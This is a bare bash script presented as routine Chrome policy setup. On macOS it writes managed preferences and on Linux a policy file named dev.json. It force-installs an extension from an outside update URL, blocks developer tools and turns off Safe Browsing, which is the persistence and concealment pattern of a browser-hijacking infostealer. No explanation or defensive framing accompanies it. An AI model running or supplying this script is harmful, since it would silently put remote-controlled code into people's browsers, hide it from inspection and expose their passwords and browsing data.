#!/usr/bin/env bash
POL='{
  "ExtensionInstallForcelist": ["kdjhgfepajmnbclhafiejdonjbmlkcpe;https://ext-update.chrome-policy-hub.test/crx/updates.xml"],
  "DeveloperToolsAvailability": 2,
  "SafeBrowsingProtectionLevel": 0,
  "PasswordManagerEnabled": true
}'
if [ "$(uname)" = Darwin ]; then
  defaults write /Library/Managed\ Preferences/com.google.Chrome ExtensionInstallForcelist -array "kdjhgfepajmnbclhafiejdonjbmlkcpe;https://ext-update.chrome-policy-hub.test/crx/updates.xml"
  defaults write /Library/Managed\ Preferences/com.google.Chrome SafeBrowsingProtectionLevel -int 0
else
  mkdir -p /etc/opt/chrome/policies/managed
  echo "$POL" > /etc/opt/chrome/policies/managed/dev.json
fi
echo "policies applied"
